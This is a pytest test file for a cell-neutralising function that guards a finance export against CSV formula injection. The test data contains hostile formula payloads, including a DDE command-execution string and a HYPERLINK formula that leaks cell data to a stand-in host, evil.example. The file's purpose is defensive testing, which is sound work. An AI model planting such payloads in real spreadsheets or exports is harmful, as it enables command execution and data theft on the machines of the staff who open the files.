"""Attack: a patient- or staff-supplied text that a spreadsheet would run as a formula when finance opens the
export (OWASP CSV injection). Every such cell leaves with a leading single quote; nothing else changes."""
from __future__ import annotations

import pytest

from app.domain.export_safety import neutralise_cell

EVALUATED = [
    # the plain triggers
    ("equals", "=1+1"),
    ("plus", "+1+1"),
    ("minus", "-2+3"),
    ("at", "@SUM(A1:A2)"),
    ("DDE payload", "=cmd|' /C calc'!A0"),
    ("hyperlink", '=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
    # leading whitespace that spreadsheets skip
    ("leading space", " =1+1"),
    ("leading spaces", "   +1"),
    ("leading tab", "\t=1+1"),
    ("leading carriage return", "\r=1+1"),
    ("leading newline", "\n=1+1"),
    ("ideographic space", "\u3000=1+1"),
    ("non-breaking space", "\u00a0@SUM(1)"),
    # full-width forms
    ("full-width equals", "＝1+1"),
    ("full-width plus", "＋1"),
    ("full-width minus", "－1"),
    ("full-width at", "＠SUM(A1)"),
    ("space then full-width equals", " ＝HYPERLINK(\"x\")"),
    # separators before a trigger
    ("pipe", "|=cmd"),
    ("semicolon", ";=cmd|' /C calc'!A0"),
    ("space pipe space", " | =1+1"),
    ("separators and spaces", "; | ;\t-1"),
    ("only a tab", "\t"),
]

LEFT_ALONE = [
    ("Chinese item name", "洁牙套餐"),
    ("channel trade number", "4200000000202501011234567890"),
    ("time", "2025-03-05 10:00:00"),
    ("empty", ""),
    ("only spaces", "   "),
    ("trigger inside", "a=b"),
    ("pipe inside", "a|=b"),
    ("already quoted", "'=already quoted"),
    ("masked phone", "138****0001"),
    ("separators only", "|;"),
]


@pytest.mark.parametrize("value", [v for _, v in EVALUATED], ids=[name for name, _ in EVALUATED])
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(value):
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", [v for _, v in LEFT_ALONE], ids=[name for name, _ in LEFT_ALONE])
def test_other_text_leaves_unchanged(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [v for _, v in EVALUATED], ids=[name for name, _ in EVALUATED])
def test_neutralising_twice_changes_nothing_more(value):
    once = neutralise_cell(value)
    assert neutralise_cell(once) == once
